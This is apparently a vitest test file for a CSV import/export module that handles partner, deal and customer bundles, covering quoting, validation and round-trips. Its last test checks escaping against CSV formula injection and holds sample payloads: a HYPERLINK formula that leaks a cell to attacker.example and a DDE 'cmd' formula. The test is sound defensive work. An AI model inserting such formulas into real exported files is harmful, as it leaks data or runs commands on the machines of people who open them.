import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { Bundle, BUNDLE_SECTIONS } from '../../schemas/bundle.js';
import { bundleToCsv, parseCsvBundle, parseCsvFiles } from '../csv.js';

const demo = Bundle.parse(JSON.parse(readFileSync(new URL('../../../seeds/demo/bundle.json', import.meta.url), 'utf8')));

type Rows = Record<string, Array<Record<string, unknown>>>;
const parse = (files: Record<string, string>) => parseCsvBundle(files) as Rows;

/** A small bundle whose values stress the format: commas, quotes, line breaks, separators inside ids. */
const awkward: Bundle = Bundle.parse({
  version: 1,
  capabilities: [{ id: 'cap:ml;ops', name: 'MLOps, "the hard way"', category: 'ai' }],
  regions: [{ id: 'emea-south', name: 'EMEA South' }, { id: 'apac' }],
  segments: [{ id: 'enterprise' }],
  partners: [
    {
      id: 'p-1',
      name: 'Smith, Jones & "Partners"',
      domain: 'smith-jones.example',
      types: ['reseller', 'service'],
      tier: 'gold',
      regions: ['emea-south', 'apac'],
      segments: ['enterprise'],
      capabilities: [{ id: 'cap:ml;ops', level: 'certified', certified: true }, { id: 'cap-b', level: 'advanced', certified: false }],
      lifecycle: { 'cloud:marketplace': 'grow', resell: 'optimise' },
      country: 'ES',
      size: '51-200',
      revenue: 1234567.5,
      sources: ['crm', 'prm;legacy'],
      aliases: ['old\\id'],
      lifecycleHistory: [
        { track: 'cloud:marketplace', at: '2025-01-02T03:04:05Z', to: 'onboard', author: 'crm' },
        { track: 'cloud:marketplace', at: '2025-06-01T00:00:00Z', from: 'onboard', to: 'grow', reason: 'first co-sell: won; renewed', author: 'Ana; EMEA' },
        { track: 'resell', at: '2025-02-01T00:00:00Z', to: 'optimise' },
      ],
    },
    { id: 'p-2', name: 'Vértice Tecnología\nS.A.', types: ['technology'] },
  ],
  customers: [{ id: 'c-1', name: 'Harbor Point Bank', segment: 'enterprise', region: 'apac', needs: ['cap:ml;ops'] }],
  relationships: [
    { from: 'p-1', to: 'c-1', type: 'SERVES', role: 'resell', since: '2021', annualValue: 0.1, source: 'crm', updatedAt: '2025-01-02T03:04:05Z' },
    { from: 'p-1', to: 'p-2', type: 'RESELLS', source: 'prm' },
  ],
  deals: [{ id: 'd-1', customer: 'c-1', region: 'apac', needs: ['cap:ml;ops'], amount: 1.5e-7, partners: [{ partner: 'p-1', role: 'sourcing:lead', claimedShare: 0.7 }, { partner: 'p-2', role: 'tech', registeredAt: '2025-03-04T05:06:07Z' }] }],
  solutions: [{ id: 's-1', name: 'Launchpad', partners: ['p-1', 'p-2'], capabilities: ['cap:ml;ops'] }],
});

describe('parseCsvBundle', () => {
  it('reads RFC 4180 quoting: commas, doubled quotes and line breaks inside cells, CRLF, a BOM', () => {
    const text = '\ufeffid,name,types\r\np-1,"Smith, Jones & ""Partners""",reseller\r\np-2,"Two\r\nlines",service\r\n';
    const { partners } = parse({ 'partners.csv': text });
    expect(partners).toEqual([
      { id: 'p-1', name: 'Smith, Jones & "Partners"', types: ['reseller'] },
      { id: 'p-2', name: 'Two\r\nlines', types: ['service'] },
    ]);
  });

  it('splits ";" lists and reads structured items', () => {
    const partners = 'id,name,types,capabilities,lifecycle\np-1,Acme,reseller; service,cap-a:advanced:certified;cap-b:basic;cap-c,resell:grow;services:onboard\n';
    const deals = 'id,customer,region,partners\nd-1,c-1,apac,p-1:sourcing:0.6;p-2:delivery;p-3:tech::2025-03-04T05\\:06\\:07Z\n';
    const bundle = parse({ 'partners.csv': partners, 'deals.csv': deals });
    expect(bundle.partners![0]).toEqual({
      id: 'p-1',
      name: 'Acme',
      types: ['reseller', 'service'],
      capabilities: [{ id: 'cap-a', level: 'advanced', certified: true }, { id: 'cap-b', level: 'basic' }, { id: 'cap-c' }],
      lifecycle: { resell: 'grow', services: 'onboard' },
    });
    expect(bundle.deals![0]!.partners).toEqual([
      { partner: 'p-1', role: 'sourcing', claimedShare: 0.6 },
      { partner: 'p-2', role: 'delivery' },
      { partner: 'p-3', role: 'tech', registeredAt: '2025-03-04T05:06:07Z' },
    ]);
  });

  it('turns empty cells into absent fields, so the schema defaults apply', () => {
    const { partners } = parse({ 'partners.csv': 'id,name,domain,types,tier,regions,revenue\np-1,Acme,,msp,, ,\n' });
    expect(partners![0]).toEqual({ id: 'p-1', name: 'Acme', types: ['msp'] });
    const partner = BUNDLE_SECTIONS.partners.parse(partners![0]);
    expect(partner).toMatchObject({ tier: 'registered', regions: [], capabilities: [], lifecycle: {} });
  });

  it('converts numeric cells of number columns only, and leaves bad numbers for the validator', () => {
    const rels = 'from,to,type,role,since,annualValue\np-1,c-1,SERVES,resell,2021,12500.5\np-1,c-2,SERVES,resell,2020,lots\n';
    const { relationships } = parse({ 'relationships.csv': rels });
    expect(relationships![0]).toMatchObject({ since: '2021', annualValue: 12500.5 });
    expect(relationships![1]!.annualValue).toBe('lots');
    expect(BUNDLE_SECTIONS.relationships.safeParse(relationships![1]).success).toBe(false);
  });

  it('keeps a row with too few cells, so the validator can report what it lacks', () => {
    const { customers } = parse({ 'customers.csv': 'id,name,segment,region\nc-1,Harbor Point Bank,enterprise\n\n' });
    expect(customers).toEqual([{ id: 'c-1', name: 'Harbor Point Bank', segment: 'enterprise' }]);
    const result = BUNDLE_SECTIONS.customers.safeParse(customers![0]);
    expect(result.error?.issues.map((i) => i.path.join('.'))).toEqual(['region']);
  });

  it('reads files given with a path, and leaves sections without a file empty', () => {
    const bundle = parse({ 'exports/2025/Regions.csv': 'id,name\napac,Asia Pacific\n' });
    expect(bundle.regions).toEqual([{ id: 'apac', name: 'Asia Pacific' }]);
    expect(bundle.partners).toEqual([]);
    expect(bundle).toMatchObject({ version: 1 });
  });

  it('names the file and the expected files when a file is unknown', () => {
    expect(() => parseCsvBundle({ 'vendors.csv': 'id\n' })).toThrow(/"vendors\.csv".*partners\.csv.*relationships\.csv/);
  });

  it('names the file and the column when a required column is missing', () => {
    expect(() => parseCsvBundle({ 'partners.csv': 'id,name\np-1,Acme\n' })).toThrow(/partners\.csv.*"types"/);
    expect(() => parseCsvBundle({ 'relationships.csv': 'from,type\np-1,SERVES\n' })).toThrow(/relationships\.csv.*"to"/);
  });

  it('ignores an unknown column with a warning naming it, and rejects an unclosed quote naming the file and line', () => {
    const read = parseCsvFiles({ 'regions.csv': 'ID,nmae,Name\napac,Asia,Asia Pacific\n\nemea,x,EMEA\n' });
    expect(read.bundle.regions).toEqual([{ id: 'apac', name: 'Asia Pacific' }, { id: 'emea', name: 'EMEA' }]);
    expect(read.warnings).toEqual([expect.stringMatching(/regions\.csv: ignored columns "nmae"/)]);
    // Lines as the file counts them: the header is line 1, the blank line 3 is skipped.
    expect(read.origins.regions).toEqual([{ file: 'regions.csv', line: 2 }, { file: 'regions.csv', line: 4 }]);
    expect(() => parseCsvBundle({ 'regions.csv': 'id,name\napac,"Asia\n' })).toThrow(/regions\.csv line 2/);
  });
});

describe('bundleToCsv', () => {
  it('writes one file per section with its header', () => {
    const files = bundleToCsv(awkward);
    expect(Object.keys(files).sort()).toEqual(
      ['capabilities.csv', 'customers.csv', 'deals.csv', 'partners.csv', 'regions.csv', 'relationships.csv', 'segments.csv', 'solutions.csv'],
    );
    expect(files['partners.csv']!.split('\n')[0]).toBe('id,name,domain,types,tier,regions,segments,capabilities,lifecycle,country,size,revenue,sources,aliases,lifecycleHistory');
    expect(files['relationships.csv']!.split('\n')[0]).toBe('from,to,type,source,updatedAt,role,since,annualValue');
    expect(files['partners.csv']).toContain('"Smith, Jones & ""Partners"""');
    expect(files['partners.csv']).toContain('cap\\:ml\\;ops:certified:certified;cap-b:advanced');
  });

  it('round-trips awkward values exactly', () => {
    expect(Bundle.parse(parseCsvBundle(bundleToCsv(awkward)))).toEqual(awkward);
  });

  it('round-trips a programme, its stall limits and tiers as JSON cells', () => {
    const programs = [
      {
        id: 'resell', name: 'Resell, "classic"', partnerTypes: ['reseller' as const], benefits: ['margin; tiered', 'MDF'], protectionDays: 90, stallLimits: { onboard: 90 },
        tiers: [{ id: 'registered', benefits: [], requirements: {} }, { id: 'gold', name: 'Gold', benefits: ['20% margin'], requirements: { capabilities: ['cap:a'], wonAmount: 100000, stage: 'grow' as const } }],
      },
    ];
    const files = bundleToCsv({ ...awkward, programs });
    expect(files['programs.csv']!.split('\n')[0]).toBe('id,name,partnerTypes,benefits,protectionDays,stallLimits,tiers');
    expect(Bundle.parse(parseCsvBundle(files))).toEqual({ ...awkward, programs });
    expect(parseCsvBundle({ 'programs.csv': 'id,tiers\nresell,[not json\n' })).toMatchObject({ programs: [{ id: 'resell', tiers: '[not json' }] });
  });

  it('round-trips conflict resolutions, the conflict and its audit as JSON cells', () => {
    const claims = [{ deal: 'd-1', partner: 'p:1', role: 'sourcing', claimedShare: 0.7, registeredAt: '2026-01-05T09:00:00Z' }, { deal: 'd-1', partner: 'p-2', role: 'delivery', claimedShare: 0.6, registeredAt: null }];
    const resolutions = [
      {
        id: 'oc-1a2b-2',
        base: 'oc-1a2b',
        conflict: { kind: 'over-claimed' as const, deals: ['d-1'], partners: ['p-2', 'p:1'], amount: 250000, evidence: 'Claims on "d-1" add up to 130%, not 100%; see line\ntwo', suggestedResolution: '=split them, proportionally' },
        audit: { policy: 'proportional' as const, note: 'agreed; "on the call"', actor: 'local', at: '2026-02-01T10:00:00.000Z', before: claims, after: claims.map((c, i) => ({ ...c, claimedShare: i === 0 ? 0.538 : 0.462 })) },
      },
    ];
    const files = bundleToCsv({ ...awkward, resolutions });
    expect(files['resolutions.csv']!.split('\n')[0]).toBe('id,base,conflict,audit');
    expect(Bundle.parse(parseCsvBundle(files))).toEqual({ ...awkward, resolutions });
    // Without the file the section stays absent, as in bundles from before it.
    expect(parseCsvBundle(bundleToCsv(awkward))).not.toHaveProperty('resolutions');
  });

  it('round-trips the demo bundle', () => {
    expect(Bundle.parse(parseCsvBundle(bundleToCsv(demo)))).toEqual(demo);
  });

  it('escapes formula cells (OWASP) and reads them back exactly; plain numbers stay numbers', () => {
    const hyperlink = '=HYPERLINK("http://attacker.example/?d="&A1,"click")';
    const formulas = Bundle.parse({
      ...awkward,
      capabilities: [...awkward.capabilities, { id: 'cap-f', name: '+cmd|\' /C calc\'!A0', category: '@SUM(1+1)' }],
      regions: [{ id: 'emea-south', name: '-2+3' }, { id: 'apac', name: "'=already quoted" }],
      segments: [{ id: 'enterprise', name: '-5' }],
      partners: [{ ...awkward.partners[0]!, name: hyperlink, aliases: ['=alias', 'plain'] }],
    });
    const files = bundleToCsv(formulas);
    expect(files['partners.csv']).toContain(`"'=HYPERLINK(""http://attacker.example/?d=""&A1,""click"")"`);
    expect(files['partners.csv']).toContain(`"'=alias;plain"`);
    expect(files['segments.csv']).toContain('enterprise,-5\n'); // a plain number runs as nothing but itself: written as it is
    expect(files['capabilities.csv']).toContain(`"'+cmd|' /C calc'!A0","'@SUM(1+1)"`);
    expect(files['regions.csv']).toContain(`emea-south,"'-2+3"`);
    expect(files['regions.csv']).toContain(`apac,"''=already quoted"`);
    // No cell of any file starts with a formula character, except plain numbers.
    for (const text of Object.values(files)) {
      for (const line of text.split('\n')) for (const cell of line.split(',')) expect(/^[=+@\t\r]|^-(?!\d)/.test(cell), cell).toBe(false);
    }
    expect(Bundle.parse(parseCsvBundle(files))).toEqual(formulas);
  });
});
